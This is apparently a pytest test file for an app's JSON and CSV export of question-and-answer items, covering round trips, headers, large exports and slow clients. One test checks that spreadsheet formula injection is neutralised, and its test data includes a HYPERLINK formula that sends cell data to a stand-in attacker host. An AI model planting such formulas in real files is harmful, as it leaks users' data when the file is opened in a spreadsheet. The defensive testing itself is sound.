"""All items as one file, which makes nothing new when it comes back."""

import csv
import io
import json
import socket
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from answerdesk.kit.spreadsheets import from_cell, to_cell
from tests.accounts.keys import code_of
from tests.conftest import Desk, Server, serving
from tests.knowledge.items.rows import all_items, import_file, import_json, numbered

FORMATS = ("json", "csv")


def _exported(desk: Desk, form: str) -> httpx.Response:
    return desk.owner.get(f"{desk.path}/items/export", params={"format": form})


def _said(items: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [
        {name: one[name] for name in ("question", "answer", "category", "tags")} for one in items
    ]


def test_an_unknown_format_is_refused(desk: Desk) -> None:
    assert code_of(_exported(desk, "xml"), 422) == "invalid_input"


@pytest.mark.parametrize(
    ("form", "whole"),
    [("json", b'{"items": []}\n'), ("csv", b"\xef\xbb\xbfquestion,answer,category,tags\r\n")],
)
def test_a_project_without_items_has_an_empty_file(desk: Desk, form: str, whole: bytes) -> None:
    assert _exported(desk, form).content == whole


def test_a_file_has_a_name_and_a_type(desk: Desk) -> None:
    for form, media_type in (("json", "application/json"), ("csv", "text/csv; charset=utf-8")):
        answer = _exported(desk, form)
        assert answer.headers["content-type"] == media_type
        assert (
            answer.headers["content-disposition"]
            == f'attachment; filename="questions-and-answers.{form}"'
        )


def test_a_spreadsheet_gets_text_and_no_formula(desk: Desk) -> None:
    items = [
        {"question": '=HYPERLINK("http://evil.example/?"&A2)', "answer": "@SUM(A1)"},
        {"question": "-5 degrees?", "answer": "+49 30 1234", "category": "=1+1", "tags": ["=x"]},
        {"question": "'=quoted", "answer": "'Tis so"},
        {"question": "＝1", "answer": 'He said "no", then\nleft'},
    ]
    assert import_json(desk, items).is_success
    text = _exported(desk, "csv").content.decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert table[1][:2] == ['\'=HYPERLINK("http://evil.example/?"&A2)', "'@SUM(A1)"]
    assert table[2] == ["'-5 degrees?", "'+49 30 1234", "'=1+1", "'=x"]
    assert table[3][:2] == ["''=quoted", "'Tis so"]
    assert table[4][:2] == ["'＝1", 'He said "no", then\nleft']
    assert not [cell for row in table for cell in row if cell[:1] in "=+-@＝＋－＠" and cell]


@given(st.text())
def test_every_cell_comes_back_as_it_was(text: str) -> None:
    assert from_cell(to_cell(text)) == text
    assert to_cell(text)[:1] not in tuple("=+-@\t\r\n＝＋－＠")


_LETTERS = st.characters(codec="utf-8", exclude_characters="\0")
_LINES = st.text(st.one_of(_LETTERS, st.sampled_from("=+-@'\"\n\r\t,; ")), min_size=1, max_size=40)
_FILLED = _LINES.filter(lambda text: any(letter.isalnum() for letter in text))
_TAGS = _FILLED.filter(lambda text: not set(text) & {",", ";"})
_ROWS = st.lists(
    st.fixed_dictionaries(
        {"question": _FILLED, "answer": _FILLED},
        optional={
            "category": st.one_of(st.none(), _FILLED),
            "tags": st.lists(_TAGS, max_size=3),
        },
    ),
    min_size=1,
    max_size=12,
)


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    """A server that stores items and makes none of them searchable, which is not the question."""
    with serving(ANSWERDESK_WORKER="0") as running:
        yield running


@pytest.fixture(scope="module")
def fresh(server: Server) -> Iterator[Any]:
    """Make projects; each example of a property takes two."""
    with server.client(owner=True) as owner, server.client() as visitor:
        yield lambda: Desk(owner, visitor)


@given(rows=_ROWS)
@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_what_goes_out_comes_back_the_same(fresh: Any, rows: list[dict[str, Any]]) -> None:
    first, second = fresh(), fresh()
    taken = import_json(first, rows)
    assert taken.status_code == 200, taken.text
    items = _said(all_items(first))
    for form in FORMATS:
        file = _exported(first, form).content
        again = import_file(first, f"items.{form}", file)
        assert again.status_code == 200, again.text
        assert again.json()["created"] == 0
        assert len(again.json()["items"]) == len(items)
    moved = import_file(second, "items.csv", _exported(first, "csv").content)
    assert moved.json()["created"] == len(items), moved.text
    assert _said(all_items(second)) == items
    assert _exported(second, "csv").content == _exported(first, "csv").content
    assert _exported(second, "json").json() == _exported(first, "json").json()
    assert _said(all_items(first)) == items


def test_many_items_go_out_whole(desk: Desk) -> None:
    for start in (0, 1000):
        assert import_json(desk, numbered(2000)[start : start + 1000]).json()["created"] == 1000
    assert _exported(desk, "json").json()["items"] == [
        {**row, "category": None, "tags": []} for row in numbered(2000)
    ]
    text = _exported(desk, "csv").content.decode("utf-8-sig")
    assert len(list(csv.DictReader(io.StringIO(text, newline="")))) == 2000
    assert import_file(desk, "items.csv", text.encode()).json()["created"] == 0


def test_a_slow_reader_holds_no_connection(desk: Desk, server: Server) -> None:
    answer = "x" * 15_000
    rows = [{"question": f"Question {n}?", "answer": f"{n} {answer}"} for n in range(500)]
    assert import_json(desk, rows).json()["created"] == 500
    # More readers than the server has connections, none of which reads on after the first bytes.
    readers = [socket.create_connection(("127.0.0.1", server.port)) for _ in range(14)]
    try:
        for reader in readers:
            request = (
                f"GET {desk.path}/items/export HTTP/1.1\r\nHost: x\r\n"
                f"Authorization: Bearer {server.owner_key}\r\n\r\n"
            )
            reader.sendall(request.encode())
            # One after the other, since all at once may have to wait for each other's reading.
            assert reader.recv(12) == b"HTTP/1.1 200"
        assert desk.owner.get(f"{desk.path}/items", params={"limit": "1"}).status_code == 200
    finally:
        for reader in readers:
            reader.close()


def test_the_export_is_what_an_import_takes_as_json(desk: Desk) -> None:
    assert import_json(desk, numbered(3)).is_success
    items = json.loads(_exported(desk, "json").content)["items"]
    assert import_json(desk, items).json()["created"] == 0
